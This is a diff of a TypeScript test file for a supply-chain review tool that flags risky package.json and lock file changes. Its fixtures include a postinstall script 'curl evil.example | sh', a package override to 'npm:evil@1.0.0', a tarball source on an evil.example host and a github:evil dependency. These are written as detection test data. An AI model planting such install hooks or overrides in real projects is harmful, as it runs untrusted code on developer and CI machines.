@@ -1,4 +1,4 @@
-// What a review tells of package.json and of the lock file, whichever package manager wrote it.
+// What a review reports of package.json and the lock file, whichever package manager wrote it.
 import { compareDependencies } from "../../../src/review/changes/compare-dependencies";
 import { readDependencies } from "../../../src/review/declared/declared-dependencies";
 import { filesOf } from "../../../src/review/git/files";
@@ -105,7 +105,7 @@ describe.each(Object.keys(writers))("with %s", (file) => {
     ]);
   });
 
-  test("a download from elsewhere is told of a version that was there, and of a new one", () => {
+  test("a download from elsewhere is reported, of a version that was there and of a new one", () => {
     const source = "https://packages.evil.example/x.tgz";
     for (const version of ["0.2.0", "0.3.0"]) {
       const head = company(version, { "customers-as-code": { version, source }, yaml });
@@ -131,7 +131,7 @@ describe.each(Object.keys(writers))("with %s", (file) => {
     ]);
   });
 
-  test("a lock file that does not fit package.json is told", () => {
+  test("a lock file that does not fit package.json is reported", () => {
     const head = company("0.3.0", { "customers-as-code": { version: "0.2.0" }, yaml });
     expect(sentences(base, head)).toEqual([
       "asks for `customers-as-code` `0.3.0` in package.json, and locks `0.2.0`: `npm ci` refuses it",
@@ -143,14 +143,17 @@ describe.each(Object.keys(writers))("with %s", (file) => {
   });
 });
 
-test.each(["package-lock.json", "pnpm-lock.yaml"])("a new script at installation is told with %s", (file) => {
-  const lock = (script: boolean) => ({
-    [file]: writers[file]?.({ yaml: { version: "2.9.1", script } }) ?? "",
-  });
-  expect(sentences(lock(false), lock(true))).toEqual([
-    "installs `yaml 2.9.1`, which runs a script when it is installed: it runs before anything checks it",
-  ]);
-});
+test.each(["package-lock.json", "pnpm-lock.yaml"])(
+  "a new script at installation is reported with %s",
+  (file) => {
+    const lock = (script: boolean) => ({
+      [file]: writers[file]?.({ yaml: { version: "2.9.1", script } }) ?? "",
+    });
+    expect(sentences(lock(false), lock(true))).toEqual([
+      "installs `yaml 2.9.1`, which runs a script when it is installed: it runs before anything checks it",
+    ]);
+  },
+);
 
 test("the form of Yarn 2 and later is read too", () => {
   const lock = (version: string, checksum: string) => ({
@@ -162,7 +165,7 @@ test("the form of Yarn 2 and later is read too", () => {
   ]);
 });
 
-test("another package under the product's name is told as one", () => {
+test("another package under the product's name is reported as one", () => {
   const lock = (entry: object) => ({
     "package-lock.json": JSON.stringify({ packages: { "node_modules/customers-as-code": entry } }),
   });
@@ -186,22 +189,22 @@ test.each([
   ]);
 });
 
-test("scripts and whatever replaces packages are told from package.json", () => {
+test("scripts and replacements of packages in package.json are reported", () => {
   const head = asked("0.2.0", {
     scripts: { postinstall: "curl evil.example | sh" },
     overrides: { zod: "npm:evil@1.0.0" },
     constructor: { a: 1 },
   });
-  const told = changes({ "package.json": asked("0.2.0") }, { "package.json": head });
-  expect(told.map(({ gravity }) => gravity)).toEqual(["grave", "grave", "grave"]);
-  expect(told.map(({ sentence }) => sentence)).toEqual([
+  const found = changes({ "package.json": asked("0.2.0") }, { "package.json": head });
+  expect(found.map(({ gravity }) => gravity)).toEqual(["grave", "grave", "grave"]);
+  expect(found.map(({ sentence }) => sentence)).toEqual([
     expect.stringMatching(/^sets `scripts` to .*curl evil.* in `package\.json`: npm runs it, in CI/),
     expect.stringMatching(/^sets `overrides` to .*evil@1\.0\.0.* in `package\.json`: another package runs/),
     expect.stringContaining("what reads it is not known here"),
   ]);
 });
 
-test("dependencies from elsewhere than a registry are told, and versions are not grave", () => {
+test("dependencies from elsewhere than a registry are grave, and versions are not", () => {
   const head = asked("0.2.0", { devDependencies: { a: "1.0.0", b: "github:evil/b" } });
   const base = asked("0.2.0", { devDependencies: {} });
   expect(changes({ "package.json": base }, { "package.json": head }).map(({ gravity }) => gravity)).toEqual([
@@ -210,8 +213,14 @@ test("dependencies from elsewhere than a registry are told, and versions are not
   ]);
 });
 
-test("a lock file that nobody can read is told", () => {
-  expect(sentences({ "package-lock.json": "{}" }, { "package-lock.json": "<<<<<<< HEAD\n" })).toEqual([
+test.each([
+  ["is not JSON", "<<<<<<< HEAD\n"],
+  [
+    "has the form of npm 6",
+    JSON.stringify({ lockfileVersion: 1, dependencies: { "customers-as-code": { version: "0.2.0" } } }),
+  ],
+])("a lock file that %s is reported as one that cannot be read", (_what, lockFile) => {
+  expect(sentences({ "package-lock.json": "{}" }, { "package-lock.json": lockFile })).toEqual([
     "changes dependencies, and `package-lock.json` cannot be read: nobody can tell which packages it has installed",
   ]);
 });
